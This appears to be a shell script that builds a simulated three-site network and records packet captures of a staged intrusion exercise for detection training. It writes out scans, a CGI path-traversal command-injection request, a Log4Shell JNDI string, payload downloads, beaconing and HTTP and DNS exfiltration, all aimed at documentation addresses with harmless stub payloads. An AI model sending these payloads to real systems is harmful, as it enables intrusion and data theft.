#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Records the exercise KEEN LANTERN: one intrusion told over three sites of two
# owners, with real programs and documentation addresses.  Needs root.
# Writes ../exercise-{jp-east,jp-west,us-pacific}.pcap

. "$(dirname "$0")/lib.sh"
need ip tcpdump nginx dnsmasq dig curl wget openssl nmap ethtool

actor=198.51.100.23     # payload, command channel, collection
scanner=203.0.113.66
domain=cdn.updates-sync.example

new_switch wan
new_host actor
plug wan actor $actor
new_host scan
plug wan scan $scanner
new_host inet
plug wan inet 203.0.113.80
new_host dns
plug wan dns 203.0.113.53

# site NAME BASE : a switch with a web server and a workstation behind it.
site() {
	new_switch "$1"
	uplink "$1" wan
	new_host "$1-web"
	plug "$1" "$1-web" "192.0.2.$(($2 + 10))"
	new_host "$1-ws"
	plug "$1" "$1-ws" "192.0.2.$(($2 + 20))"
	web "$1-web" "portal.$1.example"
}
site jp-east 0
site jp-west 64
site us-pac 128

certificate "$domain" "/C=XX/O=Updates Sync/CN=$domain"
web actor "$domain"
web inet www.example
resolver dns "$domain=$actor" www.example=203.0.113.80 \
	portal.jp-east.example=192.0.2.10 portal.jp-west.example=192.0.2.74 \
	portal.us-pac.example=192.0.2.138
mkdir -p "$work/actor-root/updates"
# Harmless: the two letters every Windows program begins with, then zeros.
{ printf 'MZ\220\0'; head -c 60000 /dev/zero; } >"$work/actor-root/updates/agent.bin"
printf '#!/bin/sh\n# exercise payload: does nothing\nexit 0\n' >"$work/actor-root/updates/run.sh"
sleep 1.5

ask() { in_host "$1" dig +tries=1 +time=2 @203.0.113.53 "$2" "${3:-A}" >/dev/null || true; }
get() { in_host "$1" curl -s -m 5 -o /dev/null --resolve "www.example:80:203.0.113.80" "$2" || true; }
gettls() {
	in_host "$1" curl -sk -m 5 -o /dev/null --resolve "www.example:443:203.0.113.80" \
		https://www.example/ || true
}
# beacon HOST : one call of the command channel: look the name up, say hello.
beacon() {
	ask "$1" $domain
	printf 'GET /poll HTTP/1.0\r\nHost: %s\r\n\r\n' "$domain" |
		in_host "$1" timeout 3 openssl s_client -quiet -connect $actor:443 \
			-servername $domain >/dev/null 2>&1 || true
}
ordinary() {
	for s in jp-east jp-west us-pac; do
		ask $s-ws www.example
		ask $s-ws www.example AAAA
		get $s-ws http://www.example/
		get $s-ws http://www.example/docs/a.txt
		gettls $s-ws
	done
}

tap jp-east up0 "$out/exercise-jp-east.pcap"
tap jp-west up0 "$out/exercise-jp-west.pcap"
tap us-pac up0 "$out/exercise-us-pacific.pcap"

echo "ordinary traffic" >&2
ordinary

echo "stage 1: reconnaissance (all sites)" >&2
for b in 10 74 138; do
	in_host scan nmap -n -Pn -sS -T4 --max-retries 1 -p 1-120,443,8080 192.0.2.$b \
		>/dev/null 2>&1 || true
done
in_host scan nmap -n -Pn -sT -T4 -p 80 --script http-title,http-server-header 192.0.2.10 \
	>/dev/null 2>&1 || true
ordinary

echo "stage 2: exploit attempts" >&2
in_host scan curl -s -m 5 -o /dev/null --path-as-is -d 'echo Content-Type: text/plain; echo; id' \
	'http://192.0.2.10/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh' || true
# shellcheck disable=SC2016
in_host scan curl -s -m 5 -o /dev/null -A '${jndi:ldap://198.51.100.23:1389/a}' \
	http://192.0.2.138/ || true

echo "stage 3: download" >&2
in_host jp-east-web wget -q -T 5 -O /dev/null http://$actor/updates/agent.bin || true
in_host us-pac-web curl -s -m 5 -o /dev/null http://$actor/updates/run.sh || true
ordinary

echo "stage 4: command channel" >&2
for round in 1 2 3 4 5; do
	beacon jp-east-web
	beacon jp-west-ws
	beacon us-pac-web
	[ $round -eq 3 ] && ordinary
	sleep 1
done

echo "stage 5: exfiltration" >&2
mkdir -p "$work/loot"
seq 1 4000 >"$work/loot/plan.txt"
tar -czf "$work/loot.tar.gz" -C "$work" loot
in_host jp-west-ws curl -s -m 5 -o /dev/null -H 'Content-Type: application/gzip' \
	--data-binary "@$work/loot.tar.gz" http://$actor/upload || true
for i in 1 2 3; do
	ask us-pac-web "$(head -c 30 /dev/urandom | od -An -tx1 | tr -d ' \n').$domain" TXT
done
ordinary
untap
ls -l "$out"/exercise-*.pcap >&2
